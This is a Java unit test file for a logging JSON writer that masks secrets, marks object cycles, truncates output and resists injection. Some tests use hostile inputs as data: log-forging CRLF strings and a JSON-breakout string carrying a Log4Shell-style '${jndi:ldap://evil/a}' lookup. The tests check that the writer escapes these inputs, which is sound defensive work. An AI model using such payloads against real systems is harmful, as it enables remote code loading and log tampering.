package io.tradekit.core.log;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import com.fasterxml.jackson.annotation.JsonValue;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.tradekit.core.log.LogFixtures.Explosive;
import io.tradekit.core.log.LogFixtures.Holder;
import io.tradekit.core.log.LogFixtures.LazyEntity;
import io.tradekit.core.log.LogFixtures.Node;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** The writer runs inside every logged call: it must neither break the call nor the log. */
class MaskingJsonWriterSafetyTest {

    /** A value whose JSON form is computed by code that fails. */
    static final class Broken {
        @JsonValue
        String value() {
            throw new IllegalStateException("boom\r\nforged line");
        }
    }

    private final MaskingJsonWriter writer = MaskingJsonWriter.DEFAULT;

    @Test
    void readsFieldsWithoutCallingGettersEvenSensitiveOnes() {
        assertThat(writer.write(new LazyEntity())).isEqualTo("{\"id\":\"e-1\",\"token\":\"******\"}");
    }

    @Test
    void readsRecordsWithoutCallingTheirAccessors() {
        assertThat(writer.write(new Explosive("x-1"))).isEqualTo("{\"id\":\"x-1\"}");
    }

    @Test
    void writesADirectSelfReferenceAsACycleMarker() {
        assertThat(writer.write(new Node("root").pointToSelf())).isEqualTo("{\"name\":\"root\",\"self\":\"<cycle>\","
                + "\"children\":[]}");
    }

    @Test
    void writesABackReferenceThroughACollectionAsACycleMarker() {
        Node root = new Node("root").add(new Node("leaf"));

        assertThat(writer.write(root)).isEqualTo("{\"name\":\"root\",\"children\":[{\"name\":\"leaf\","
                + "\"parent\":\"<cycle>\",\"children\":[]}]}");
    }

    /** A bean that reaches back to its holder through a map and through an array. */
    static final class Bag {
        private final String name = "bag";
        private final Map<String, Object> byName = new java.util.LinkedHashMap<>();
        private Object[] items;
    }

    @Test
    void writesABackReferenceThroughAMapAndThroughAnArrayAsACycleMarker() {
        Bag bag = new Bag();
        Node inMap = new Node("in-map");
        inMap.add(new Node("leaf"));
        bag.byName.put("me", bag);
        bag.byName.put("node", inMap);
        bag.items = new Object[] {bag, "x"};

        assertThat(writer.write(bag)).isEqualTo("{\"name\":\"bag\",\"byName\":{\"me\":\"<cycle>\","
                + "\"node\":{\"name\":\"in-map\",\"children\":[{\"name\":\"leaf\",\"parent\":\"<cycle>\","
                + "\"children\":[]}]}},\"items\":[\"<cycle>\",\"x\"]}");
    }

    @Test
    void aCycleMarkerInTheRequestDoesNotLeakIntoTheNextWrite() {
        // The path is the generator's, not state kept between calls: the same object written again at
        // the root, and then inside another root, is written in full both times.
        Node root = new Node("root").pointToSelf();
        String first = writer.write(root);

        assertThat(writer.write(root)).isEqualTo(first);
        assertThat(writer.write(List.of(new Node("other"), new Node("x")))).doesNotContain("<cycle>");
    }

    @Test
    void writesTheSameObjectTwiceWhenItIsSharedButNotCyclic() {
        Node shared = new Node("shared");

        assertThat(writer.write(List.of(shared, shared)))
                .isEqualTo("[{\"name\":\"shared\",\"children\":[]},{\"name\":\"shared\",\"children\":[]}]");
    }

    @Test
    void describesAnUnserializableValueInsteadOfThrowing() {
        String json = writer.write(new Broken());

        assertThat(json).startsWith("<unserializable " + Broken.class.getName() + ": ")
                .contains("boom\\r\\nforged line")
                .doesNotContain("\r", "\n")
                .endsWith(">");
    }

    @Test
    void describesACollectionContainingItselfInsteadOfThrowing() {
        List<Object> list = new ArrayList<>();
        list.add(list);

        assertThat(writer.write(list)).startsWith("<unserializable java.util.ArrayList: ");
    }

    @Test
    void writesJdkObjectsWithoutAJsonFormAsTheirToString() {
        Thread thread = new Thread(() -> { }, "worker-7");

        assertThat(writer.write(new Holder(thread))).isEqualTo("{\"value\":\"" + thread + "\"}");
    }

    @Test
    void capsTheOutputAndTellsTheFullLength() {
        MaskingJsonWriter small = new MaskingJsonWriter(20);

        assertThat(small.write("x".repeat(100))).isEqualTo("\"" + "x".repeat(19) + "...(truncated, 102 chars)");
        assertThat(small.write("short")).isEqualTo("\"short\"");
        assertThat(small.getMaxLength()).isEqualTo(20);
    }

    @Test
    void capsTheDefaultOutputAt4096Characters() {
        String json = writer.write(Map.of("blob", "y".repeat(10_000)));

        assertThat(json).hasSize(4096 + "...(truncated, 10011 chars)".length())
                .endsWith("...(truncated, 10011 chars)");
    }

    @Test
    void neverCutsASurrogatePairInHalf() {
        String json = new MaskingJsonWriter(4).write("ab😀");

        assertThat(json).isEqualTo("\"ab...(truncated, 6 chars)");
    }

    @Test
    void rejectsANonPositiveMaximumLength() {
        assertThatIllegalArgumentException().isThrownBy(() -> new MaskingJsonWriter(0))
                .withMessage("maxLength must be >= 1 but was 0");
    }

    @Test
    void neverWritesARawLineBreak() {
        Map<String, String> hostile = Map.of("key\r\nINFO forged", "v1\nv2\r\u2028\u2029\u0085\u0000\t");

        String json = writer.write(hostile);

        assertThat(json).doesNotContain("\r", "\n", "\u2028", "\u2029", "\u0085", "\u0000", "\t")
                .isEqualTo("{\"key\\r\\nINFO forged\":\"v1\\nv2\\r\\u2028\\u2029\\u0085\\u0000\\t\"}");
    }

    @Test
    void keepsHostileStringsInsideTheirJsonValue() throws Exception {
        String hostile = "\"},\"admin\":true,\"x\":{\"${jndi:ldap://evil/a}";

        String json = writer.write(new Holder(hostile));

        JsonNode parsed = new ObjectMapper().readTree(json);
        assertThat(parsed.size()).isEqualTo(1);
        assertThat(parsed.get("value").asText()).isEqualTo(hostile);
    }

    @Test
    void givesTheSameResultFromManyThreads() throws Exception {
        String expected = writer.write(LogFixtures.Customer.zhang());
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Future<String>> results = pool.invokeAll(IntStream.range(0, 200)
                    .mapToObj(i -> (java.util.concurrent.Callable<String>) () -> writer.write(LogFixtures.Customer.zhang()))
                    .toList());
            for (Future<String> result : results) {
                assertThat(result.get()).isEqualTo(expected);
            }
        } finally {
            pool.shutdown();
        }
    }
}
